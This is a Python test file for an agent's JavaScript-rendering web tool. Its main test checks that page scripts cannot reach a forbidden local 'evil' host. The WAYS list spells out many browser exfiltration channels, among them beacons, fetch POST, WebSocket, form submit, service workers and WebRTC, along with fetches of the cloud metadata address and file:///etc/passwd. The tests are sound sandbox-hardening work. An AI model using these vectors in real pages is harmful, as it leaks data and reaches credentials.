"""Pages that need JavaScript, in the system's real Chromium: what they show, and what they reach."""

import time
from collections.abc import AsyncIterator
from datetime import UTC, datetime
from pathlib import Path

import pytest

from manyminds.core.errors import ToolFailed
from manyminds.core.messages import ToolCall
from manyminds.tools.web.addresses import Address
from manyminds.tools.web.fetch import Fetcher
from manyminds.tools.web.reader import Reader
from manyminds.tools.web.render import Renderer, why_not_ready
from manyminds.tools.web.sites import Sites
from manyminds.tools.web.sources import Sources
from manyminds.tools.web.tool import ReadPage, Web
from tests.chaos.counts import LATE_S
from tests.tools.web.site import Site, serving

pytestmark = [
    pytest.mark.anyio,
    pytest.mark.skipif(why_not_ready() is not None, reason=why_not_ready() or ""),
]
APP = "<!doctype html><title>App</title><div id=app></div><script src='/app.js'></script>"
SCRIPT = """
fetch("/data.json").then(r => r.json()).then(d => {
  document.getElementById("app").innerHTML =
    "<main><h1>Pumps</h1><p>" + (d.said + " ").repeat(9) + "</p></main>";
});
"""


@pytest.fixture
async def site() -> AsyncIterator[Site]:
    async with serving() as site:
        yield site


@pytest.fixture
async def evil() -> AsyncIterator[Site]:
    async with serving() as site:
        yield site


@pytest.fixture
async def opened(tmp_path: Path) -> AsyncIterator[Web]:
    fetcher = Fetcher(cache=None, now=lambda: datetime.now(UTC), loopback=True)
    web = Web(
        engines=(), fetcher=fetcher, reader=Reader(), sources=Sources(tmp_path / "s.sqlite"),
        sites=Sites(loopback=True), renderer=Renderer(fetcher=fetcher),
    )  # fmt: skip
    yield web
    await web.close()


async def read(web: Web, address: str) -> str:
    web.sites.know([address])
    call = ToolCall(id="1", name="read_page", arguments={"address": address, "about": "pumps"})
    [evidence, *_] = await ReadPage(web=web)("m1", call)
    assert evidence.source == address
    stored = web.sources.text_of(address) or ""
    assert stored[evidence.start : evidence.end] == evidence.output
    return evidence.output


async def test_a_page_is_read_as_its_scripts_leave_it(site: Site, opened: Web) -> None:
    site.pages |= {"/app": APP, "/app.js": SCRIPT, "/data.json": '{"said": "A pump lifts water."}'}
    assert "A pump lifts water." in await read(opened, site.url("/app"))
    assert "/data.json" in site.asked


async def test_without_being_asked_no_script_is_run(site: Site, opened: Web) -> None:
    site.pages |= {"/app": APP, "/app.js": SCRIPT}
    opened.renderer = None
    with pytest.raises(ToolFailed, match="no text without JavaScript"):
        await read(opened, site.url("/app"))
    assert "/app.js" not in site.asked


WAYS = [
    "new Image().src = '{evil}/image'", "fetch('{evil}/post', {{method: 'POST', body: 'x'}})",
    "navigator.sendBeacon('{evil}/beacon', 'x')", "new WebSocket('{evil}/socket'.replace('http', 'ws'))",
    "location.href = '{evil}/away'", "window.open('{evil}/window')", "new EventSource('{evil}/events')",
    "document.body.innerHTML += '<iframe src={evil}/frame></iframe>'",
    "document.body.innerHTML += '<link rel=prefetch href={evil}/prefetch>'",
    "document.body.innerHTML += '<video src={evil}/video autoplay></video>'",
    "document.body.innerHTML += '<form id=f action={evil}/form></form>'; document.getElementById('f').submit()",
    "import('{evil}/module.js')", "new Worker(URL.createObjectURL(new Blob([\"fetch('{evil}/worker')\"])))",
    "fetch('{evil}/get')", "navigator.serviceWorker.register('/app.js').then(() => fetch('{evil}/sw'))",
    "new RTCPeerConnection({{iceServers: [{{urls: 'stun:{host}'}}]}}).createOffer()",
    "setTimeout(() => {{ document.write('<img src={evil}/late>') }}, 300)",
    "fetch('http://169.254.169.254/latest/meta-data/')", "fetch('file:///etc/passwd')",
]  # fmt: skip


async def test_scripts_reach_nothing_that_is_forbidden(site: Site, evil: Site, opened: Web) -> None:
    evil_host = evil.url("").removeprefix("http://")

    def allows(address: Address) -> str | None:
        return "forbidden" if evil_host in address.text else None

    lines = ";\n".join(
        f"try {{ {way.format(evil=evil.url(''), host=evil_host)} }} catch (e) {{}}" for way in WAYS
    )
    shows = "document.getElementById('app').innerHTML = '<p>' + 'It is shown. '.repeat(9) + '</p>';"
    site.pages |= {"/app": APP, "/app.js": shows + lines}
    assert opened.renderer is not None
    fetched = await opened.fetcher.get(site.url("/app"), allows=lambda _: None)
    rendered = await opened.renderer.render(fetched, allows=allows)
    assert b"It is shown." in rendered.body
    assert evil.asked == []
    # The check can fail: what is allowed does arrive.
    await opened.renderer.render(fetched, allows=lambda _: None)
    assert "/get" in evil.asked
    assert not {"/post", "/away", "/frame", "/image", "/beacon"} & set(evil.asked)


@pytest.mark.parametrize("script", ["while (true) {}", "alert('x'); location.reload()"])
async def test_scripts_that_never_end_are_ended(site: Site, opened: Web, script: str) -> None:
    site.pages |= {"/app": APP, "/app.js": script}
    opened.renderer = Renderer(fetcher=opened.fetcher, seconds=6)
    began = time.monotonic()
    with pytest.raises(ToolFailed, match=r"take too long|no text|empty|cannot be run"):
        await read(opened, site.url("/app"))
    assert time.monotonic() - began < 15 + LATE_S
